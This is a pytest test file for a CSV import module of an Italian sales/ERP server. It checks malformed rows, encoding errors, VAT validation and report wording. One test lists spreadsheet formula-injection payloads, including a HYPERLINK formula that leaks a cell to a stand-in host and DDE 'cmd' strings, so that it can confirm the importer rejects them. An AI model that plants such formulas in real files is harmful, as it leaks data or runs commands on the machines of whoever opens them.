"""Hostile ERP exports (issue 15): the import never changes a field the file did not carry, refuses
what it would store wrongly, and its messages and counts are exact."""

from __future__ import annotations

from decimal import Decimal

import pytest
from sqlalchemy.engine import Engine
from stdnum import luhn

from sfa_server.erp_import import ids, import_path
from tests.server_import.test_import import VALID_VAT, count, row

HEADER = "codice;ragione_sociale;partita_iva;stato;fido;saldo;agente;pagamento;listino;citta"


def _customers(write_csv, *lines: str, name: str = "customers.csv", **kw):
    return write_csv(name, [HEADER, *lines], **kw)


@pytest.fixture
def imported(server_engine: Engine, agent_ids: dict, write_csv) -> Engine:
    write_csv("price_lists.csv", ["codice;versione;descrizione;base", "BASE;1;Listino;S"])
    path = _customers(write_csv, f"C001;Rossi S.r.l.;{VALID_VAT};attivo;20000;1500;AG01;RB 30 gg;BASE;Milano",
                      f"C002;Bianchi;{VALID_VAT};attivo;100;0;AG02;;;Bologna")
    report = import_path(server_engine, write_csv.folder)
    assert report.exit_code == 0, report.render()
    path.unlink()
    (write_csv.folder / "price_lists.csv").unlink()
    return server_engine


def test_a_short_row_is_refused_with_its_line_and_wipes_nothing(imported: Engine, write_csv) -> None:
    before = row(imported, "customers", ids.customer_id("C001"))
    path = _customers(write_csv, "C001;Rossi S.r.l.;" + VALID_VAT)  # the rest of the row was cut
    for skip in (False, True):
        report = import_path(imported, path, skip_bad_rows=skip)
        [bad] = report.files[0].rejected
        assert bad.line == 2 and "3 cell(s) where the header has 10" in bad.reason, bad.reason
        assert report.files[0].updated == 0
    after = row(imported, "customers", ids.customer_id("C001"))
    for field in ("agent_id", "credit_limit", "balance", "payment_terms", "price_list_id"):
        assert after[field] == before[field], field


def test_bytes_undefined_in_windows_1252_are_refused_not_read_as_control_characters(
        sqlite_engine: Engine, write_csv) -> None:
    raw = "codice;descrizione;iva\nP1;Lampada 10 €;22\nP2;Faretto".encode("cp1252") + b"\x81" + b";22\n"
    (write_csv.folder / "products.csv").write_bytes(raw)
    report = import_path(sqlite_engine, write_csv.folder / "products.csv")
    assert report.exit_code == 1 and count(sqlite_engine, "products") == 0
    error = report.files[0].error
    assert "Windows-1252" in error and "line 3" in error and "UTF-8" in error, error
    # the same file without that byte: "€" is the euro sign, not U+0080
    (write_csv.folder / "products.csv").write_bytes(raw.replace(b"\x81", b""))
    assert import_path(sqlite_engine, write_csv.folder / "products.csv").exit_code == 0
    assert row(sqlite_engine, "products", ids.product_id("P1"))["name"] == "Lampada 10 €"


def test_output_is_capped_with_a_summary(sqlite_engine: Engine, write_csv) -> None:
    path = write_csv("warehouses.csv", ["code;name", "MI;Milano", *[f"W{i};" for i in range(5000)]])
    report = import_path(sqlite_engine, path)
    text = report.render()
    assert len(text.splitlines()) < 40, len(text.splitlines())
    assert "4980 more rejected row(s), lines 23 to 5002" in text, text
    assert "name is missing" in text.split("more rejected")[1]  # the summary says why, by reason
    assert "--skip-bad-rows to import the 1 good row(s)" in text


def test_the_skip_hint_only_where_it_helps(sqlite_engine: Engine, write_csv) -> None:
    report = import_path(sqlite_engine, write_csv("products.csv", ["codice;descrizione", "P1;Senza IVA"]))
    assert "--skip-bad-rows" not in report.render()  # a missing column: skipping rows cannot help
    report = import_path(sqlite_engine, write_csv("warehouses.csv", ["code;name", "MI;Milano", "BO;"]))
    assert "--skip-bad-rows" in report.render()
    report = import_path(sqlite_engine, write_csv("warehouses.csv", ["code;name", "BO;"]))
    assert "--skip-bad-rows" not in report.render()  # no good row: skipping imports nothing


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://x.example/?"&A1;"Clicca")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0",
                                  "-2+3+cmd|' /C calc'!A0", "=1+1"])
def test_formula_cells_in_text_fields_are_refused(sqlite_engine: Engine, write_csv, cell: str) -> None:
    quoted = '"' + cell.replace('"', '""') + '"'
    path = write_csv("warehouses.csv", ["code;name", f"MI;{quoted}"])
    report = import_path(sqlite_engine, path)
    [bad] = report.files[0].rejected
    assert "spreadsheet formula" in bad.reason, bad.reason
    assert count(sqlite_engine, "warehouses") == 0


def test_text_that_only_starts_like_a_sign_is_kept(sqlite_engine: Engine, write_csv) -> None:
    write_csv("warehouses.csv", ["code;name", "MI;- Magazzino centrale", "BO;+39 051 123456"])
    report = import_path(sqlite_engine, write_csv.folder / "warehouses.csv")
    assert report.exit_code == 0, report.render()


def test_excel_sep_line_is_understood(sqlite_engine: Engine, write_csv) -> None:
    path = write_csv("products.csv", ["sep=,", "codice,descrizione,iva,costo", 'P1,"Cavo; rosso",22,"1,5"'])
    report = import_path(sqlite_engine, path)
    assert report.exit_code == 0, report.render()
    assert report.files[0].delimiter == ","
    product = row(sqlite_engine, "products", ids.product_id("P1"))
    assert product["name"] == "Cavo; rosso" and product["cost"] == Decimal("1.5")
    bad = write_csv("warehouses.csv", ["sep=;", "code;name", "MI;"])
    assert import_path(sqlite_engine, bad).files[0].rejected[0].line == 3  # lines count the sep= line


def _vat_with_office(office: str) -> str:
    body = "1234567" + office
    return body + luhn.calc_check_digit(body)


def test_vat_messages_name_the_true_reason(sqlite_engine: Engine, write_csv) -> None:
    unassigned = _vat_with_office("200")  # right check digit, no such provincial office
    wrong_digit = VALID_VAT[:-1] + str((int(VALID_VAT[-1]) + 1) % 10)
    path = _customers(write_csv, f"C1;A;{unassigned};attivo;0;0;;;;", f"C2;B;{wrong_digit};attivo;0;0;;;;")
    rejected = import_path(sqlite_engine, path).files[0].rejected
    assert "office code 200" in rejected[0].reason and "wrong check digit" not in rejected[0].reason, rejected[0]
    assert "wrong check digit" in rejected[1].reason


@pytest.mark.parametrize("mode", ["dry_run", "without_skip", "skip"])
def test_unchanged_rows_are_counted_unchanged_in_every_mode(imported: Engine, write_csv, mode: str) -> None:
    path = _customers(write_csv, f"C001;Rossi S.r.l.;{VALID_VAT};attivo;20000;1500;AG01;RB 30 gg;BASE;Milano",
                      f"C002;Bianchi;{VALID_VAT};attivo;999;0;AG02;;;Bologna",
                      "C003;;;;;;;;;")  # one bad row
    report = import_path(imported, path, dry_run=mode == "dry_run", skip_bad_rows=mode == "skip")
    f = report.files[0]
    assert (f.inserted, f.updated, f.unchanged, len(f.rejected)) == (0, 1, 1, 1), report.render()


def test_multi_line_quoted_cells_import_as_documented(sqlite_engine: Engine, write_csv) -> None:
    path = write_csv("products.csv", ["codice;descrizione;iva;note",
                                      'P1;Plafoniera;22;"Prima riga\nseconda riga"', "P2;Faretto;22;"])
    report = import_path(sqlite_engine, path)
    assert report.exit_code == 0, report.render()
    assert row(sqlite_engine, "products", ids.product_id("P1"))["description"] == "Prima riga\nseconda riga"
    bad = write_csv("warehouses.csv", ["code;name", "MI;Milano\x07"])
    assert "control characters" in import_path(sqlite_engine, bad).files[0].rejected[0].reason
